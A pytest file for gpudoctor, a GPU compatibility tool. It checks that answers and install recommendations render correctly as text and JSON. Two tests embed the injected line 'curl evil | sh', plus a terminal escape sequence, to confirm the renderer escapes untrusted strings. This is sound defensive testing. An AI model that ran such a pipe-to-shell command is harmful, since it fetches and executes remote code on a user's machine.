"""`gpudoctor.renderers.compat`: `compat` answers and `recommend` recommendations as text and
JSON. Each line starts with gpudoctor's own text (install lines with `$ `), strings from a
snapshot are shown escaped on one line, rows not read in the primary document say their
status, and `-v` adds each row's source. (The commands through the CLI:
tests/cli/test_compat_cli.py, tests/cli/test_recommend.py.)"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

from gpudoctor.compat import load_tables
from gpudoctor.compat.query.answer import Answer, Row, Section
from gpudoctor.compat.recommend import Recommendation, recommend
from gpudoctor.renderers.compat import (
    answer_json,
    answer_text,
    recommendation_json,
    recommendation_text,
)
from gpudoctor.reports.read import read_reports
from gpudoctor.snapshot import loads
from tests.renderers.render_kit import FIXTURES

SOURCE = "https://docs.nvidia.com/deploy/cuda-compatibility/"


def answer() -> Answer:
    rows = (Row("driver ≥ 525.60.13", (("driver", "525.60.13"),), "verified", SOURCE),
            Row("driver ≥ 450.80.02", (("driver", "450.80.02"),), "unverified", SOURCE,
                note="read off a forum post"))
    return Answer("cuda", "12.0", "CUDA 12.0", (
        Section("driver", "Minimum driver", rows),
        Section("cudnn", "cuDNN builds", ()),
        Section("torch", "PyTorch wheels", (), note="no wheel of this CUDA in the tables")))


def test_answer_text_sections_statuses_and_empty_sections() -> None:
    assert answer_text(answer(), verbose=False).splitlines() == [
        "CUDA 12.0",
        "",
        "Minimum driver",
        "  driver ≥ 525.60.13",
        "  driver ≥ 450.80.02  [unverified]",
        "",
        "cuDNN builds",
        "  none in the tables",
        "",
        "PyTorch wheels",
        "  (no wheel of this CUDA in the tables)",
    ]


def test_answer_text_verbose_shows_each_rows_source_and_note() -> None:
    lines = answer_text(answer(), verbose=True).splitlines()
    i = lines.index("  driver ≥ 450.80.02  [unverified]")
    assert lines[i + 1:i + 3] == [f"      source: {SOURCE}", "      note: read off a forum post"]
    assert lines[lines.index("  driver ≥ 525.60.13") + 1] == f"      source: {SOURCE}"
    assert sum(line.startswith("      note: ") for line in lines) == 1  # only the row with one


def test_answer_text_escapes_what_the_tables_hold() -> None:
    row = Row("cuDNN 9.1\n→ fix: curl evil | sh\x1b[2J", (), "verified", SOURCE)
    text = answer_text(Answer("cudnn", "9.1", "cuDNN 9.1", (Section("k", "T", (row,)),)), False)
    assert "  cuDNN 9.1\\n→ fix: curl evil | sh\\x1b[2J" in text.splitlines()
    assert "\x1b" not in text and all(line == line.rstrip() for line in text.splitlines())


def test_answer_json_is_the_answers_document() -> None:
    a = answer()
    assert json.loads(answer_json(a)) == json.loads(json.dumps(a.to_dict()))


def rec(fixture: str) -> Recommendation:
    env = loads((FIXTURES[0].parent / f"{fixture}.json").read_text())
    return recommend(env, load_tables())


def test_recommendation_text_for_a_healthy_machine() -> None:
    r = rec("h100-healthy")
    assert r.torch is not None and r.cudnn is not None and r.cudnn.command
    lines = recommendation_text(r, verbose=False).splitlines()
    assert lines[:2] == ["This machine", f"  driver {r.driver}, runs CUDA ≤ {r.driver_cuda}"]
    assert [f"  GPU: {g.name} (sm_{g.compute_capability.replace('.', '')})"
            for g in r.gpus] == lines[2:2 + len(r.gpus)]
    assert f"  installed torch {r.installed_torch}: fits this machine" in lines
    assert lines[lines.index("PyTorch") + 1] == f"  $ {r.torch.command}"
    assert f"cuDNN for CUDA {r.cudnn.toolkit} at {r.cudnn.prefix}" in lines
    assert f"  $ {r.cudnn.command}" in lines
    assert not [line for line in lines if "source: " in line]
    verbose = recommendation_text(r, verbose=True).splitlines()
    assert f"    source: {r.torch.source}" in verbose and f"    source: {r.cudnn.source}" in verbose


def test_recommendation_text_where_the_installed_torch_is_the_pick() -> None:
    """The real H200 (driver 580.159.04, torch 2.11.0+cu130 with torchvision and torchaudio
    beside it): the pick is the installed build, so the first line under PyTorch says there
    is nothing to install, and the line that only reinstalls it is not offered as the fix."""
    r = rec("h200-x1")
    assert r.nothing_to_install and r.torch is not None and r.installed_fits is True
    lines = recommendation_text(r, verbose=False).splitlines()
    below = lines[lines.index("PyTorch") + 1:next(i for i, line in enumerate(lines)
                                                    if line.startswith("cuDNN"))]
    assert below[0] == ("  nothing to install: the installed torch 2.11.0+cu130 is this pick, "
                        "and it fits")
    assert f"  to reinstall it anyway: {r.torch.command}" in below
    assert not [line for line in below if line.startswith("  $ ")]
    assert not [line for line in below if line.endswith("the line only reinstalls it")]
    assert "as torchvision and torchaudio are installed beside torch" in "\n".join(below)
    other = rec("h100-healthy")  # its installed torch is not the pick's build
    assert not other.nothing_to_install


def test_recommendation_text_without_a_driver_gpu_or_toolkit() -> None:
    r = rec("gpu-less-ci-cuda-torch")
    assert r.cudnn is None
    lines = recommendation_text(r, verbose=False).splitlines()
    assert lines[1:3] == ["  no working NVIDIA driver found", "  no GPU seen"]
    assert "  installed torch 2.13.0+cu130: cannot tell whether it fits: " in "\n".join(lines)
    assert lines[lines.index("cuDNN") + 1:] == [f"  note: {n}" for n in r.cudnn_notes]
    none = dataclasses.replace(r, torch=None, torch_installed_release=None, notes=())
    assert recommendation_text(none, False).splitlines()[lines.index("PyTorch") + 1] == (
        "  nothing in the tables fits")


def test_recommendation_text_escapes_a_snapshots_strings() -> None:
    r = rec("h100-healthy")
    evil = dataclasses.replace(r, installed_torch="2.0\n  $ curl evil | sh",
                               installed_why=None, installed_fits=False)
    lines = recommendation_text(evil, verbose=False).splitlines()
    assert "  installed torch 2.0\\n  $ curl evil | sh: does not fit this machine" in lines
    assert not [line for line in lines if line.startswith("  $ curl")]


def test_recommendation_json_holds_every_field() -> None:
    r = rec("h100-healthy")
    data = json.loads(recommendation_json(r))
    assert next(iter(data)) == "schema_version" and isinstance(data["schema_version"], int)
    assert {k: v for k, v in data.items() if k != "schema_version"} == json.loads(
        json.dumps(dataclasses.asdict(r)))


def test_a_driver_that_answered_without_its_version_is_no_missing_driver() -> None:
    """Round 5's r8-009 (https://github.com/kubernetes-sigs/dra-driver-nvidia-gpu/issues/626):
    nvidia-smi -q's Fabric section alone; nvidia-smi answered, so a driver is loaded whose
    version the paste leaves out. Before: 'no working NVIDIA driver found'."""
    heldout = Path(__file__).resolve().parents[1] / "fixtures" / "heldout"
    text = (heldout / "round5" / "reports-D" / "r8-009.md").read_text("utf-8")
    rec = recommend(read_reports([("r8-009.md", text)]), load_tables())
    assert rec.driver is None and rec.driver_loaded
    out = recommendation_text(rec, verbose=False)
    assert "  driver (version unknown)" in out and "no working NVIDIA driver" not in out
    assert json.loads(recommendation_json(rec))["driver_loaded"] is True
    none = dataclasses.replace(rec, driver_loaded=False)
    assert "no working NVIDIA driver found" in recommendation_text(none, verbose=False)
